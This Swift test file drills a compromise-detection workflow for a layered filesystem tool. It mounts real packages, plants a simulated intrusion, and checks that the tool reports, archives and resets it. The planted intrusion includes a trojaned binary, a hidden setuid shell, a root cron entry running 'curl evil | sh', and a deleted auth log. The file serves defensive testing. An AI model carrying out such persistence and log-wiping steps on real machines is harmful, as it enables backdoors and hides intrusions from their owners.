import Foundation
import StrataStore
import StrataTestSupport
import Testing
#if canImport(Glibc)
import Glibc
#endif

/// The security workflow end to end on a VLFS of real packages: an intrusion, its report, the evidence,
/// and the reset — all while mounted.
@Suite(.serialized) struct CompromiseDrillTests {
    @Test func intrusionIsReportedArchivedAndReset() throws {
        let workspace = try Workspace()
        expectSuccess(try workspace.strata(["layer", "import", "main"] + (try downloadedPackages(["base-files", "libc6", "coreutils", "libacl1", "libattr1", "libgmp10", "libselinux1", "libpcre2-8-0"]))))
        try workspace.scratch.write("logs/var/log/auth.log", "Nov 25 sshd: accepted publickey for admin\n")
        try makeDirectories(workspace.scratch.path + "/logs/etc/cron.d")
        expectSuccess(try workspace.strata("layer", "import", "main", workspace.scratch.path + "/logs", "--name", "site-logs", "--version", "1"))
        let ldf = workspace.scratch.path + "/server.ldf"
        try AtomicFile.write("main/base-files\nmain/libc6\nmain/coreutils\nmain/libacl1\nmain/libattr1\nmain/libgmp10\nmain/libselinux1\nmain/libpcre2-8-0\nmain/site-logs\n", to: ldf)
        let root = workspace.scratch.path + "/root"
        try makeDirectories(root)
        expectSuccess(try workspace.strata("mount", ldf, root, "--name", "server"))
        defer { _ = try? workspace.strata("umount", root) }
        let pristineId = try Data(contentsOf: URL(fileURLWithPath: root + "/usr/bin/id"))
        let pre = expectSuccess(try workspace.strata("image", "snapshot", "server", "--image", "server-pre")).stdout.split(separator: "\n")[0]
        #expect(Digest(pre) != nil)

        // The attacker: a trojaned binary, a setuid shell, a cron entry, and a deleted log.
        try AtomicFile.write("#!/bin/sh\necho uid=0\n", to: root + "/usr/bin/id", mode: 0o755)
        try shell("cp '\(root)/bin/ls' '\(root)/usr/bin/.sh' && chmod 4755 '\(root)/usr/bin/.sh'")
        try AtomicFile.write("* * * * * root /usr/bin/.sh -c 'curl evil | sh'\n", to: root + "/etc/cron.d/backdoor")
        try FileManager.default.removeItem(atPath: root + "/var/log/auth.log")

        let status = expectSuccess(try workspace.strata("private", "status", "server", "--json")).stdout
        let changes = try #require(try JSONSerialization.jsonObject(with: Data(status.utf8)) as? [[String: Any]])
        let files = changes.filter { ($0["path"] as? String).map { !["/usr", "/usr/bin", "/etc", "/etc/cron.d", "/var", "/var/log"].contains($0) } ?? false }
        func change(_ path: String) -> [String: Any]? { files.first { $0["path"] as? String == path } }
        #expect(files.count == 4, "\(files)")
        #expect(change("/usr/bin/id")?["kind"] as? String == "modified" && change("/usr/bin/id")?["severity"] as? String == "critical")
        #expect((change("/usr/bin/id")?["layer"] as? String)?.hasPrefix("coreutils ") == true)
        #expect(change("/usr/bin/.sh")?["kind"] as? String == "added" && change("/usr/bin/.sh")?["severity"] as? String == "high")
        #expect(change("/etc/cron.d/backdoor")?["kind"] as? String == "added" && change("/etc/cron.d/backdoor")?["severity"] as? String == "high")
        #expect(change("/var/log/auth.log")?["kind"] as? String == "deleted" && change("/var/log/auth.log")?["layer"] as? String == "site-logs 1")
        #expect(change("/var/log/auth.log")?["severity"] as? String == "high")
        #expect(files.first?["severity"] as? String == "critical", "most severe first")

        // Snapshots before and after differ in exactly those four files.
        let post = expectSuccess(try workspace.strata("image", "snapshot", "server", "--image", "server-post")).stdout.split(separator: "\n")[0]
        let diff = expectSuccess(try workspace.strata("image", "diff", String(pre), String(post), "--json")).stdout
        #expect(["/usr/bin/id", "/usr/bin/.sh", "/etc/cron.d/backdoor", "/var/log/auth.log"].allSatisfy { diff.contains("\"\($0)\"") }, "\(diff)")
        #expect(!diff.contains("\"/usr/bin/ls\""))

        // Reset: the evidence goes to the catalog and the mount shows the pristine tree at once.
        let archived = String(expectSuccess(try workspace.strata("private", "reset", "server")).stdout.split(separator: "\n")[0])
        #expect(Digest(archived) != nil)
        #expect(try Data(contentsOf: URL(fileURLWithPath: root + "/usr/bin/id")) == pristineId)
        #expect(!FileManager.default.fileExists(atPath: root + "/etc/cron.d/backdoor"))
        #expect(!FileManager.default.fileExists(atPath: root + "/usr/bin/.sh"))
        #expect(FileManager.default.fileExists(atPath: root + "/var/log/auth.log"))
        let after = expectSuccess(try workspace.strata("private", "status", "server")).stdout
        #expect(after.isEmpty, "nothing private is left: \(after)")

        // The archived private layer mounts read-only and shows what the attacker left.
        let evidence = workspace.scratch.path + "/evidence"
        try makeDirectories(evidence)
        expectSuccess(try workspace.strata("private", "mount", "server", archived, evidence))
        defer { _ = try? workspace.strata("umount", evidence) }
        #expect(try String(contentsOfFile: evidence + "/etc/cron.d/backdoor", encoding: .utf8).contains("curl evil"))
        #expect(try String(contentsOfFile: evidence + "/usr/bin/id", encoding: .utf8) == "#!/bin/sh\necho uid=0\n")
        #expect(open(evidence + "/etc/cron.d/new", O_WRONLY | O_CREAT, 0o644) < 0, "the evidence is read-only")
    }
}

extension CompromiseDrillTests {
    @Test func scanOfAVLFSSeesItsPrivateChanges() throws {
        let vlfs = try MountedWorkspace(layers: [("app", "1", ["usr/bin/app": "app\n"])], ldf: ["main/app 1"])
        try vlfs.write("usr/bin/dropper", "#!/bin/sh\n")
        chmod(vlfs.path("usr/bin/dropper"), 0o4777)
        let scan = expectSuccess(try vlfs.workspace.strata("scan", "vlfs:\(vlfs.name)", "--json")).stdout
        let findings = try #require(try JSONSerialization.jsonObject(with: Data(scan.utf8)) as? [[String: Any]])
        #expect(findings.contains { $0["path"] as? String == "/usr/bin/dropper" && $0["rule"] as? String == "setuid" })
        #expect(findings.contains { $0["path"] as? String == "/usr/bin/dropper" && $0["rule"] as? String == "world-writable" })
        // Relative to its shared layers: a file that shadows a shared binary, an executable added.
        try vlfs.write("usr/bin/app", "#!/bin/sh\necho trojan\n")
        let again = expectSuccess(try vlfs.workspace.strata("scan", "vlfs:\(vlfs.name)", "--json")).stdout
        let more = try #require(try JSONSerialization.jsonObject(with: Data(again.utf8)) as? [[String: Any]])
        #expect(more.contains { $0["path"] as? String == "/usr/bin/app" && $0["rule"] as? String == "private-modified" && $0["severity"] as? String == "critical" })
        #expect(more.contains { $0["path"] as? String == "/usr/bin/dropper" && $0["rule"] as? String == "private-added" && ["high", "critical"].contains($0["severity"] as? String ?? "") })
    }
}
